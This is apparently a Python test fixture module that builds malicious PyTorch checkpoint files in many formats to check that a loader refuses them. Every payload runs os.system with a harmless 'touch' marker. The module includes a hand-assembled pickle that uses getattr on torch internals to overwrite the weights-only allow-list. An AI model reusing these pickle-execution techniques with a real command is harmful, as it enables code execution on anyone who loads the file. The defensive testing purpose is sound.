"""Checkpoints that hold code: each makes a file when it is run, in the folder of the process."""

import io
import os
import pickle
import struct
import tarfile
import threading
import zipfile
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import torch

MARKER = 'the_code_ran'
SUFFIXES = ('.pth', '.pt', '.pkl', '.bin', '.ckpt', '.safetensors', '.tar', '.zip', '')


class Evil:
    """Calls ``os.system`` where it is unpickled."""

    def __reduce__(self):
        return os.system, (f'touch {MARKER}',)


def saved(**options):
    """Return a state_dict with code beside it as torch writes it."""
    file = io.BytesIO()
    torch.save({'state_dict': {'w': torch.zeros(2)}, 'x': Evil()}, file, **options)
    return file.getvalue()


def by_getattr():
    """Return a file that gets at ``os.system`` through `getattr` of what may be loaded.

    It needs none of torch's unsafe loading, only a list of allowed names with `getattr` on it: a
    HistoryBuffer takes over a module's variables as its own, and so the list can be replaced.
    """

    def text(value):
        return b'X' + struct.pack('<I', len(value)) + value.encode()

    def attribute(value, name):
        return b'cbuiltins\ngetattr\n' + value + text(name) + b'\x86R'

    names = attribute(b'ctorch._utils\n_rebuild_tensor_v2\n', '__globals__')
    holder = b'cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81' + names + b'b'
    here = attribute(holder, 'torch')
    system = attribute(attribute(here, 'os'), 'system') + b'q\x00'
    unpickler = attribute(attribute(here, '_weights_only_unpickler'), '__dict__')
    listed = text('_marked_safe_globals_set') + b']h\x00' + text('os.system') + b'\x86as'
    call = b'h\x00' + text(f'touch {MARKER}') + b'\x85R.'
    content = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved())) as source,
        zipfile.ZipFile(content, 'w') as target,
    ):
        for name in source.namelist():
            data = source.read(name)
            if name.endswith('data.pkl'):
                data = b'\x80\x02' + system + unpickler + listed + call
            target.writestr(name, data)
    return content.getvalue()


def old_tar():
    """Return what torch wrote before 0.1.10: a tar of pickles."""
    content, data = io.BytesIO(), pickle.dumps(Evil(), 2)
    with tarfile.open(fileobj=content, mode='w') as archive:
        for name in ('sys_info', 'storages', 'tensors', 'pickle'):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return content.getvalue()


def torchscript():
    """Return a TorchScript archive, which torch would hand on to `torch.jit`."""
    file = io.BytesIO()
    torch.jit.save(torch.jit.trace(torch.nn.Identity(), torch.zeros(1)), file)
    return file.getvalue()


def zipped_alone():
    """Return a zip of nothing but a checkpoint, which `torch.hub` unpacks."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, 'w') as archive:
        archive.writestr('inner.pth', saved())
    return content.getvalue()


# What makes the file, and what the message says that it asks for
KINDS = {
    'zip': (saved, 'posix.system'),
    'legacy': (partial(saved, _use_new_zipfile_serialization=False), 'posix.system'),
    'pickle': (lambda: pickle.dumps(Evil(), 2), 'posix.system'),
    'protocol 5': (lambda: pickle.dumps(Evil(), 5), "pickle's protocol 4"),
    'zip of protocol 4': (partial(saved, pickle_protocol=4), "pickle's protocol 4"),
    'getattr': (by_getattr, 'builtins.getattr'),
    'old tar': (old_tar, 'legacy .tar'),
    'TorchScript': (torchscript, 'TorchScript'),
}


def write_evil(path, kind='zip'):
    """Write one and return its path as text."""
    Path(path).write_bytes(KINDS[kind][0]())
    return str(path)


@contextmanager
def served(folder):
    """Serve a folder on this machine and yield the address."""

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(('127.0.0.1', 0), partial(Quiet, directory=str(folder)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f'http://127.0.0.1:{server.server_address[1]}'
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
